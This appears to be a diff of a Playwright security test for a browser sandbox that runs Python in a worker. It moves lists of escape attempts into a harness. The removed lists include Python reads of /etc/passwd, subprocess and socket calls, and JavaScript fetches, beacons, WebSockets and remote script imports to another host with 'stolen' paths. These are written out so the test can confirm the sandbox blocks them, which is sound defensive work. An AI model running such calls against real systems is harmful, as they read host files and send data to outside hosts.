@@ -2,8 +2,6 @@
  * What environment code tries to reach and must not: first through Python as every program could, then with the
  * runner's own worker script replaced by the attacker's, which leaves only the frame's walls standing.
  */
-import { createServer } from "node:http";
-import type { AddressInfo } from "node:net";
 import { gzipSync } from "node:zlib";
 import { readFile } from "node:fs/promises";
 import path from "node:path";
@@ -12,43 +10,16 @@ import { expect, type Page } from "@playwright/test";
 
 import { manifestSchema } from "@/lib/workers/protocol";
 
+import {
+  ATTEMPTING,
+  makeAttackScript,
+  PYTHON_ATTEMPTS,
+  REACHED_WITHOUT_WALLS,
+  UNWALLED_PAGE,
+} from "./harness/attempts";
+import { openOtherHost } from "./harness/other-host";
 import { COUNTER, makeProgram } from "./harness/programs";
 import { play, test } from "./harness/runner-test";
-
-/** Python statements that would leave what they reached in \`got\`; each must raise instead. */
-const PYTHON_ATTEMPTS: [name: string, statements: string][] = [
-  ["the js module", "import js\ngot = js.fetch"],
-  ["the js module by importlib", "import importlib\ngot = importlib.import_module('js')"],
-  ["pyodide", "import pyodide\ngot = pyodide"],
-  ["pyodide.code.run_js", "from pyodide.code import run_js\ngot = run_js('self')"],
-  ["pyodide.http", "from pyodide.http import open_url\ngot = open_url('/')"],
-  ["pyodide_js", "import pyodide_js\ngot = pyodide_js"],
-  ["the core of Pyodide", "import _pyodide_core\ngot = _pyodide_core"],
-  ["micropip", "import micropip\ngot = micropip"],
-  ["ctypes", "import ctypes\ngot = ctypes.string_at(0, 8)"],
-  ["_ctypes", "import _ctypes\ngot = _ctypes"],
-  ["a socket", "import socket\ngot = socket.create_connection(('127.0.0.1', 80))"],
-  ["urllib", "import urllib.request\ngot = urllib.request.urlopen('http://127.0.0.1/')"],
-  [
-    "http.client",
-    "import http.client\nc = http.client.HTTPConnection('127.0.0.1')\nc.request('GET', '/')\ngot = c",
-  ],
-  ["a process", "import subprocess\ngot = subprocess.check_output(['id'])"],
-  ["a fork", "import os\ngot = os.fork()"],
-  ["the host's files", "got = open('/etc/passwd').read()"],
-  ["the host's folders", "import os\ngot = os.listdir('/home/web_user/../../root')"],
-];
-
-/** Tries one Python attempt a turn: the action says which. */
-const ATTEMPTING = makeProgram({
-  prelude: `ATTEMPTS = ${JSON.stringify(PYTHON_ATTEMPTS.map(([, statements]) => statements))}`,
-  step: `names = {}
-try:
-    exec(ATTEMPTS[int(re.search(r"\\d+", action).group())], names)
-    return f"REACHED {names['got']!r}", 0.0, False, False, {}
-except Exception as error:
-    return f"refused {type(error).__name__}", 0.0, False, False, {}`,
-});
 
 test("Python reaches neither JavaScript nor a network, a process or the host's files", async ({
   sharedPage,
@@ -115,68 +86,24 @@ async function replaceWorker(page: Page, script: string): Promise<void> {
   await page.route("**/runtime/evil.gz.bin", (route) => route.fulfill({ body }));
 }
 
-/** JavaScript expressions, each a promise or a value; `reached` when it resolves, `refused` when it throws. */
-const WORKER_ATTEMPTS: Record<string, string> = {
-  "fetch of the site": "fetch(SITE + 'stolen-fetch')",
-  "fetch of another host": "fetch(OTHER + 'stolen-fetch')",
-  "opaque fetch of another host": "fetch(OTHER + 'stolen-no-cors', { mode: 'no-cors' })",
-  "fetch with the site's cookies":
-    "fetch(SITE + 'stolen-cookie', { credentials: 'include', mode: 'no-cors' })",
-  XMLHttpRequest:
-    "new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', OTHER + 'stolen-xhr'); x.send(); })",
-  "synchronous XMLHttpRequest":
-    "(() => { const x = new XMLHttpRequest(); x.open('GET', OTHER + 'stolen-sync', false); x.send(); })()",
-  WebSocket:
-    "new Promise((yes, no) => { const s = new WebSocket(OTHER.replace('http', 'ws') + 'stolen-socket'); s.onopen = yes; s.onerror = no; })",
-  EventSource:
-    "new Promise((yes, no) => { const s = new EventSource(OTHER + 'stolen-events'); s.onopen = yes; s.onerror = no; })",
-  importScripts: "importScripts(OTHER + 'stolen-script.js')",
-  "import()": "import(OTHER + 'stolen-module.js')",
-  "a nested worker from the site":
-    "new Promise((yes, no) => { const w = new Worker(SITE + 'page.js'); w.onmessage = yes; w.onerror = no; setTimeout(no, 1500); })",
-  "a font": "new FontFace('x', 'url(' + OTHER + 'stolen-font)').load()",
-  "a beacon":
-    "new Promise((yes, no) => (navigator.sendBeacon ? yes(navigator.sendBeacon(OTHER + 'stolen-beacon')) : no()))",
-  eval: "eval('1')",
-  "Function()": "new Function('return 1')()",
-  IndexedDB:
-    "new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
-  "Cache Storage": "caches.open('x')",
-  "the private file system": "navigator.storage.getDirectory()",
-  localStorage: "localStorage.length",
-  cookies: "document.cookie.length",
-  "the page": "parent.document",
-};
-
-test("a worker wholly in an attacker's hands reaches nothing outside the frame", async ({
+test("a worker wholly in an attacker's hands reaches nothing, and without walls it would", async ({
   page,
   site,
 }) => {
-  const heard: string[] = [];
-  const other = createServer((request, response) => {
-    heard.push(request.url ?? "");
-    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("1");
-  });
-  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
-  const otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
-  const attempts = Object.entries(WORKER_ATTEMPTS)
-    .map(([name, code]) => `await attempt(${JSON.stringify(name)}, async () => ${code});`)
-    .join("\n");
-  // The one way out of a worker is a message; a fatal one reaches the page as an error's text.
-  const script = `
-    const SITE = ${JSON.stringify(site.url)}, OTHER = ${JSON.stringify(otherUrl)};
-    const reached = [];
-    const attempt = async (name, run) => {
-      try {
-        await Promise.race([run(), new Promise((_, no) => setTimeout(no, 3000))]);
-        reached.push(name);
-      } catch {}
-    };
-    (async () => {
-      new BroadcastChannel("app").postMessage("hello");
-      ${attempts}
-      postMessage({ type: "fatal", message: "REACHED " + JSON.stringify(reached) });
-    })();`;
+  // Two hosts: what a page without walls started may go on calling.
+  const [reachable, other] = await Promise.all([openOtherHost(), openOtherHost()]);
+  const script = makeAttackScript(site.url, other.url);
+  site.files["attack.js"] = makeAttackScript(site.url, reachable.url);
+  site.files["no-walls.html"] = UNWALLED_PAGE;
+  await page.goto(`${site.url}no-walls.html`);
+  const unwalled = await page.evaluate(() =>
+    (Reflect.get(window, "attack") as () => Promise<string>)(),
+  );
+  const reached = JSON.parse(unwalled.replace("REACHED ", "")) as string[];
+  expect(REACHED_WITHOUT_WALLS.filter((name) => !reached.includes(name))).toEqual([]);
+  expect(reachable.heard).toContain("/stolen-fetch");
+  reachable.close();
+
   await replaceWorker(page, script);
   await page.context().addCookies([{ name: "secret", value: "1", url: site.url }]);
   await page.goto(site.url);
@@ -199,7 +126,7 @@ test("a worker wholly in an attacker's hands reaches nothing outside the frame",
   expect(outcome.load).toMatchObject({ ok: false, error: { code: "runner/crashed" } });
   expect(outcome.load.ok ? "" : outcome.load.error.message).toContain("REACHED []");
   expect(await overheard).toBe(false);
-  expect(heard).toEqual([]);
+  expect(other.heard).toEqual([]);
   expect(site.requests.slice(before).filter((url) => url.includes("stolen"))).toEqual([]);
   other.close();
 });
